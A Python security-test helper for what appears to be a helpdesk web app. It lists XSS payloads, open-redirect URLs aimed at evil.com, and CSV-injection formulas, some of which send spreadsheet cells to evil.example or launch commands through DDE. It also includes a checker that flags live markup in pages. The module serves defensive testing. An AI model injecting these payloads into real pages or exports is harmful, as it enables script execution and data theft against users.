"""What the security tests share: hostile payloads, and a check that a page carries no live
markup (elements, attributes or URLs that would run a script or load something remote)."""
from __future__ import annotations

import re
from html.parser import HTMLParser

# Each payload carries {tag}, a marker that proves the text reached the page it is checked on.
XSS_PAYLOADS = [
    "<img src=x onerror=alert({tag})>",
    "<svg onload=alert({tag})>",
    "<a href=\"javascript:alert({tag})\">click</a>",
    "\"><script>alert({tag})</script>",
    "'><iframe src=javascript:alert({tag})></iframe>",
    "<a href=\" jav&#x09;ascript:alert({tag})\">x</a>",
    "[link](javascript:alert({tag}))",
    "<body onpageshow=alert({tag})>",
    "\" autofocus onfocus=alert({tag}) x=\"",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({tag})>",
    "{{{{7*7}}}} {tag} <div hx-get=/logout hx-trigger=load>",
]

_DANGEROUS_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg",
                   "math", "style", "link", "meta", "template", "portal"}
_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "background",
              "hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch"}
# Our own inline icons (templates/macros/icons.html): an <svg class="icon icon-NAME"> holding
# nothing but drawing attributes. Anything else an <svg> carries makes it live markup.
_ICON_CLASS = re.compile(r"icon icon-[a-z-]+( [a-z-]+)?")
_ICON_ATTRS = {"class", "xmlns", "viewbox", "fill", "stroke", "stroke-width", "stroke-linecap", "stroke-linejoin",
               "aria-hidden", "focusable", "role", "aria-label"}
# The report charts (helpdesk/reports/charts.py): geometry and labels, no more.
_CHART_CLASS = re.compile(r"chart-svg|chart-hbar")
_CHART_ATTRS = {"class", "viewbox", "preserveaspectratio", "role", "focusable", "aria-labelledby",
                "aria-describedby", "aria-hidden"}
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|file):", re.I)
_STRIP = re.compile(r"[\x00-\x20\x7f]+")


class _Scan(HTMLParser):
    """Collects every live thing a page holds; `allowed` lets our own scripts and styles through."""

    def __init__(self, allow_own_assets: bool):
        super().__init__(convert_charrefs=True)
        self.allow_own_assets = allow_own_assets
        self.problems: list[str] = []
        self.in_script = False

    def _own(self, url: str | None) -> bool:
        return bool(url) and (url.startswith("/static/") or url.split("?")[0] == "/theme.css")

    def handle_starttag(self, tag, attrs):
        attrs_d = {name.lower(): (value or "") for name, value in attrs}
        if tag == "script":
            if not (self.allow_own_assets and self._own(attrs_d.get("src"))):
                self.problems.append(f"<script {attrs_d}>")
            self.in_script = True
        elif tag == "link":
            if not (self.allow_own_assets and self._own(attrs_d.get("href")) and attrs_d.get("rel") in ("stylesheet", "icon")):
                self.problems.append(f"<link {attrs_d}>")
        elif tag == "meta":
            if "http-equiv" in attrs_d:
                self.problems.append(f"<meta {attrs_d}>")
        elif tag == "svg" and self.allow_own_assets and _ICON_CLASS.fullmatch(attrs_d.get("class", "")) \
                and set(attrs_d) <= _ICON_ATTRS:
            pass
        elif tag == "svg" and self.allow_own_assets and _CHART_CLASS.fullmatch(attrs_d.get("class", "")) \
                and set(attrs_d) <= _CHART_ATTRS:
            pass
        elif tag == "iframe" and self.allow_own_assets and attrs_d.get("sandbox", None) == "" \
                and re.match(r"/[a-z]", attrs_d.get("src", "")):
            pass  # a frame of our own with every sandbox restriction (the dev mailbox's HTML mails)
        elif tag in _DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "img":
            src = attrs_d.get("src", "")
            if not src.startswith("/") or src.startswith("//"):
                self.problems.append(f"<img src={src!r}> (remote or injected image)")
        for name, value in attrs_d.items():
            if name.startswith("on") or name.startswith("hx-on") or name in ("hx-vars", "hx-js", "srcdoc"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in _URL_ATTRS and _BAD_SCHEME.match(_STRIP.sub("", value)):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "hx-trigger" and "[" in value:
                self.problems.append(f"<{tag} hx-trigger filter {value!r}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.in_script = False

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data.strip()[:60]!r}")


def live_markup(html: str, *, allow_own_assets: bool = True) -> list[str]:
    """Everything in the page that could run a script or load something from elsewhere."""
    scan = _Scan(allow_own_assets)
    scan.feed(html)
    scan.close()
    return scan.problems


def assert_no_live_markup(html: str, where: str = "", *, allow_own_assets: bool = True) -> None:
    problems = live_markup(html, allow_own_assets=allow_own_assets)
    assert not problems, f"live markup in {where}: {problems}"


# next= values that must never take a browser off the desk.
OPEN_REDIRECTS = [
    "//evil.com", "/\\evil.com", "\\\\evil.com", "https:evil.com", "https://evil.com", "http:/evil.com",
    "javascript:alert(1)", "%2F%2Fevil.com", "/%2F/evil.com", "////evil.com", " //evil.com",
    "\t//evil.com", "/\t/evil.com", "https:\\\\evil.com", "//evil.com@desk.test", "data:text/html,hi",
    "/%5Cevil.com", "\\/evil.com", "/.//evil.com",
]

# Cells a spreadsheet would run as formulas (CSV injection, OWASP): each starts with = + - @ or a
# tab or carriage return; an export must write every one of them as text.
FORMULA_PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
]
